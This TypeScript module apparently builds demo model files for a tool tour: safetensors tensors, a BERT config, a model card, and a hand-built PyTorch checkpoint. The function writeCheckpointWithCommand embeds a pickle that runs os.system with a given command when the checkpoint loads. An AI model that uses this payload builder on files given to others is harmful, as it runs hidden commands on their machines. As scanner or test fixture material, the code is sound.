import { crc32 } from 'node:zlib';

/** A float32 tensor of a model file. */
export interface DemoTensor {
  readonly name: string;
  readonly shape: readonly [rows: number, columns: number];
  readonly values: Float32Array;
}

/** A tensor with values that look like weights; `seed` makes them others. */
export function makeTensor(name: string, shape: DemoTensor['shape'], seed: number): DemoTensor {
  const values = Float32Array.from({ length: shape[0] * shape[1] }, (_, index) => Math.sin(seed + index) / 8);
  return { name, shape, values };
}

const bytesOf = ({ values }: DemoTensor): Buffer =>
  Buffer.from(values.buffer, values.byteOffset, values.byteLength);

/** A safetensors file as its reference implementation writes it: header padded to 8 bytes, tensors without gaps. */
export function writeSafetensors(tensors: readonly DemoTensor[]): Buffer {
  const header: Record<string, unknown> = { __metadata__: { format: 'pt' } };
  let offset = 0;
  for (const tensor of tensors) {
    const end = offset + tensor.values.byteLength;
    header[tensor.name] = { dtype: 'F32', shape: tensor.shape, data_offsets: [offset, end] };
    offset = end;
  }
  const text = JSON.stringify(header);
  const padded = Buffer.from(text.padEnd(Math.ceil(text.length / 8) * 8));
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(padded.length));
  return Buffer.concat([length, padded, ...tensors.map(bytesOf)]);
}

/** Pickle opcodes as CPython's pickler at protocol 2 writes them; one character per byte. */
const text = (value: string): string => {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(Buffer.byteLength(value));
  return `X${length.toString('latin1')}${Buffer.from(value).toString('latin1')}`;
};
const whole = (value: number): string => {
  const bytes = Buffer.alloc(4);
  bytes.writeInt32LE(value);
  return `J${bytes.toString('latin1')}`;
};
const pair = (a: number, b: number): string => `${whole(a)}${whole(b)}\x86`;

/** `torch._utils._rebuild_tensor_v2(storage, 0, shape, stride, False, OrderedDict())`. */
function rebuiltTensor({ shape: [rows, columns], values }: DemoTensor, key: string): string {
  const storage = `(${text('storage')}ctorch\nFloatStorage\n${text(key)}${text('cpu')}${whole(values.length)}tQ`;
  const order = 'ccollections\nOrderedDict\n)R';
  return `ctorch._utils\n_rebuild_tensor_v2\n(${storage}K\x00${pair(rows, columns)}${pair(columns, 1)}\x89${order}tR`;
}

/**
 * A checkpoint as `torch.save` writes it (a zip of a pickle and one file per tensor) whose pickle calls
 * `os.system(command)` while it is loaded, before the first tensor. Whoever loads it runs the command.
 */
export function writeCheckpointWithCommand(tensors: readonly DemoTensor[], command: string): Buffer {
  const call = `${text('_metadata')}cposix\nsystem\n${text(command)}\x85R`;
  const items = tensors.map((tensor, index) => text(tensor.name) + rebuiltTensor(tensor, String(index)));
  const pickle = Buffer.from(`\x80\x02}(${call}${items.join('')}u.`, 'latin1');
  return zipOf([
    ['archive/data.pkl', pickle],
    ['archive/byteorder', Buffer.from('little')],
    ...tensors.map((tensor, index) => [`archive/data/${index}`, bytesOf(tensor)] as const),
    ['archive/version', Buffer.from('3\n')],
  ]);
}

/** A zip archive of stored members (APPNOTE 6.3.9 §4.3). */
function zipOf(members: readonly (readonly [name: string, bytes: Buffer])[]): Buffer {
  const bodies: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, bytes] of members) {
    const shared = Buffer.alloc(26);
    shared.writeUInt16LE(20, 0);
    shared.writeUInt32LE(crc32(bytes), 10);
    shared.writeUInt32LE(bytes.length, 14);
    shared.writeUInt32LE(bytes.length, 18);
    shared.writeUInt16LE(Buffer.byteLength(name), 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), shared, Buffer.from(name), bytes]);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(offset, 10);
    // Version that made it: the same number as the version that is needed.
    const made = shared.subarray(0, 2);
    directory.push(
      Buffer.concat([Buffer.from('PK\x01\x02', 'latin1'), made, shared, rest, Buffer.from(name)]),
    );
    bodies.push(local);
    offset += local.length;
  }
  const listing = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(listing.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...bodies, listing, end]);
}

/** The configuration of a small BERT, as transformers saves it. */
export function writeConfig(): Buffer {
  const config = {
    architectures: ['BertForSequenceClassification'],
    hidden_size: 64,
    model_type: 'bert',
    num_attention_heads: 4,
    num_hidden_layers: 2,
    vocab_size: 256,
  };
  return Buffer.from(`${JSON.stringify(config, null, 2)}\n`);
}

/** A model card; `note` makes it the card of one run. */
export function writeCard(id: string, note: string): Buffer {
  return Buffer.from(
    `---\nlicense: apache-2.0\n---\n\n# ${id}\n\nMade by the tour of Weighbridge (${note}).\n`,
  );
}
